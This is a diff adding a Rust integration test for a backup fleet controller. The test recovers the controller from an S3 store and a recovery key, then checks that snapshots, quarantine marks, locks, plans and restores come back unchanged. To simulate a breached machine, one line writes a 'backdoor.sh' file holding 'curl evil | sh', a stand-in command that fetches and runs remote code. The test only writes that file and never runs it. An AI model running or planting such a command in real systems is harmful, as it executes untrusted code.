@@ -1,0 +1,255 @@
+//! A controller rebuilt from its store (issue 18, item 4): a fleet of three agents with
+//! policies, a quarantine, drills and a plan loses its controller's whole data directory;
+//! `lifeboat-controller recover` brings it back from the S3 store and the offline recovery
+//! key alone. The agents reconnect with the certificates they hold, the estimates, restore
+//! points, locks and quarantine marks are the same, a backup made after the last saved
+//! state is found in the store, restores are byte-identical, and the audit log verifies.
+
+use std::fs;
+use std::time::Duration;
+
+use lifeboat_tests::s3::S3Server;
+use lifeboat_tests::tree::Rng;
+use lifeboat_tests::{Fleet, now_ms, wait_for};
+use serde_json::Value;
+
+fn rfc(ms: i64) -> String {
+    humantime::format_rfc3339_millis(std::time::UNIX_EPOCH + Duration::from_millis(ms as u64))
+        .to_string()
+}
+
+/// Per device: (agent, restore estimate, its basis).
+fn estimates(fleet: &Fleet) -> Vec<(String, String, String)> {
+    let mut v: Vec<_> = fleet
+        .cli_json(&["devices"])
+        .as_array()
+        .expect("devices")
+        .iter()
+        .map(|d| {
+            (
+                d["agent"].as_str().unwrap_or_default().to_string(),
+                d["restore_estimate_seconds"].to_string(),
+                d["estimate_basis"].as_str().unwrap_or_default().to_string(),
+            )
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+/// Per snapshot: (id, quarantined, locked until).
+fn snapshots(fleet: &Fleet) -> Vec<(String, bool, i64)> {
+    let mut v: Vec<_> = fleet
+        .cli_json(&["snapshots"])
+        .as_array()
+        .expect("snapshots")
+        .iter()
+        .map(|s| {
+            (
+                s["id"].as_str().unwrap_or_default().to_string(),
+                s["quarantined"] == true,
+                s["locked_until_unix_ms"].as_i64().unwrap_or(-1),
+            )
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+/// The restore point a plan picks per device and source.
+fn picks(plan: &Value) -> Vec<(String, String)> {
+    let mut v: Vec<_> = plan["devices"]
+        .as_array()
+        .expect("devices")
+        .iter()
+        .flat_map(|d| {
+            d["sources"].as_array().into_iter().flatten().map(move |s| {
+                (
+                    d["agent"].as_str().unwrap_or_default().to_string(),
+                    s["snapshot"].as_str().unwrap_or_default().to_string(),
+                )
+            })
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn a_controller_whose_machine_is_gone_comes_back_from_the_store_and_the_recovery_key() {
+    let Some(s3) = S3Server::start() else {
+        return;
+    };
+    let mut fleet = Fleet::start_on_s3(&s3, "fleet", &["--state-every", "1s"]);
+    let policy = fleet.path("fleet.toml");
+    fs::write(
+        &policy,
+        "[[policy]]\nname = \"all\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\nkeep = { last = 10 }\nlock = \"7d\"\ntier = 1\n",
+    )
+    .expect("write");
+    assert!(
+        fleet
+            .cli(&["policy", "apply", "-f", policy.to_str().expect("path")])
+            .status
+            .success()
+    );
+    // Each machine: its data under a restore root, where a plan puts it back.
+    let mut machines = Vec::new();
+    let mut sources = Vec::new();
+    let mut rng = Rng::new(4);
+    for name in ["a", "b", "c"] {
+        let machine = tempfile::tempdir().expect("machine");
+        let src = machine.path().join("data");
+        fs::create_dir(&src).expect("mkdir");
+        for i in 0..6 {
+            fs::write(src.join(format!("f{i}")), rng.bytes(150_000)).expect("write");
+        }
+        let agent = fleet.enroll(name);
+        fleet.run_agent(&agent, &[("data", &src)], &[machine.path()]);
+        fleet.backup(name, "data");
+        machines.push(machine);
+        sources.push(src);
+    }
+    // c is breached: its next snapshot is quarantined.
+    std::thread::sleep(Duration::from_millis(20));
+    let breach = rfc(now_ms());
+    fs::write(sources[2].join("backdoor.sh"), "curl evil | sh").expect("write");
+    fleet.backup("c", "data");
+    assert!(
+        fleet
+            .cli(&[
+                "snapshots",
+                "quarantine",
+                "--agent",
+                "c",
+                "--after",
+                &breach
+            ])
+            .status
+            .success()
+    );
+    let drills = fleet.cli_json(&[
+        "drill", "run", "--agent", "a", "--agent", "b", "--agent", "c",
+    ]);
+    assert!(
+        drills
+            .as_array()
+            .expect("drills")
+            .iter()
+            .all(|d| d["state"] == "passed"),
+        "{drills}"
+    );
+    let cutoff = rfc(now_ms());
+    let plan_before = fleet.cli_json(&[
+        "recover", "plan", "--agent", "a", "--agent", "b", "--agent", "c", "--before", &cutoff,
+    ]);
+    let snapshots_before = snapshots(&fleet);
+    let policies_before = fleet.cli_json(&["policy", "list"]);
+
+    // A state saved after all of that, then a backup the state does not know.
+    let objects = s3.objects("fleet", &fleet.path("probe"));
+    let since = now_ms();
+    wait_for(
+        "a state saved in the store",
+        Duration::from_secs(60),
+        || {
+            objects
+                .list("controller/state-")
+                .ok()?
+                .iter()
+                .filter_map(|o| {
+                    o.key
+                        .strip_prefix("controller/state-")?
+                        .strip_suffix(".age")?
+                        .parse::<i64>()
+                        .ok()
+                })
+                .any(|ms| ms > since + 1500)
+                .then_some(())
+        },
+    );
+    fs::write(sources[0].join("late"), rng.bytes(90_000)).expect("write");
+    let late = fleet.backup("a", "data")["id"]
+        .as_str()
+        .expect("id")
+        .to_string();
+    // The estimates as the lost controller gave them last (a's from its late snapshot).
+    let estimates_before = estimates(&fleet);
+    assert!(
+        estimates_before
+            .iter()
+            .all(|(_, _, basis)| basis == "measured"),
+        "{estimates_before:?}"
+    );
+
+    // The machine is gone; a new one gets the store's address and the recovery key.
+    let store_args = s3.serve_args("fleet");
+    let out = fleet.lose_controller_and_recover(&store_args);
+    assert!(
+        out.status.success(),
+        "recover: {}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let said = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        said.contains("1 snapshots"),
+        "the late backup is indexed from the store: {said}"
+    );
+    fleet.start_controller();
+
+    // The agents reconnect unaided, with the certificates they hold.
+    fleet.wait_connected(3);
+    assert_eq!(estimates(&fleet), estimates_before);
+    let mut after = snapshots(&fleet);
+    after.retain(|(id, _, _)| *id != late);
+    assert_eq!(
+        after, snapshots_before,
+        "snapshots, quarantine marks and locks"
+    );
+    assert!(
+        snapshots(&fleet)
+            .iter()
+            .any(|(id, _, lock)| *id == late && *lock > now_ms())
+    );
+    assert_eq!(fleet.cli_json(&["policy", "list"]), policies_before);
+    let plan_after = fleet.cli_json(&[
+        "recover", "plan", "--agent", "a", "--agent", "b", "--agent", "c", "--before", &cutoff,
+    ]);
+    assert_eq!(picks(&plan_after), picks(&plan_before));
+    let audit = fleet.cli(&["audit", "verify"]);
+    assert!(
+        audit.status.success(),
+        "audit verify: {}{}",
+        String::from_utf8_lossy(&audit.stdout),
+        String::from_utf8_lossy(&audit.stderr)
+    );
+
+    // Restores, from the state's snapshots and the late one, are byte-identical; and the
+    // recovered controller backs up as before.
+    let target = machines[1].path().join("restored");
+    let b_snapshot = picks(&plan_after)
+        .into_iter()
+        .find(|(agent, _)| agent == "b")
+        .map(|(_, s)| s)
+        .expect("b's restore point");
+    let (ok, job) = fleet.restore_to(&b_snapshot, "b", &target, &[]);
+    assert!(ok, "{job}\n{}", fleet.agent_log("b"));
+    for i in 0..6 {
+        let name = format!("f{i}");
+        assert_eq!(
+            fs::read(target.join(&name)).expect("restored"),
+            fs::read(sources[1].join(&name)).expect("source"),
+            "{name}"
+        );
+    }
+    let target = machines[0].path().join("restored");
+    let (ok, job) = fleet.restore_to(&late, "a", &target, &[]);
+    assert!(ok, "{job}\n{}", fleet.agent_log("a"));
+    assert_eq!(
+        fs::read(target.join("late")).expect("restored"),
+        fs::read(sources[0].join("late")).expect("source")
+    );
+    fs::write(sources[1].join("after"), "after the recovery").expect("write");
+    fleet.backup("b", "data");
+}
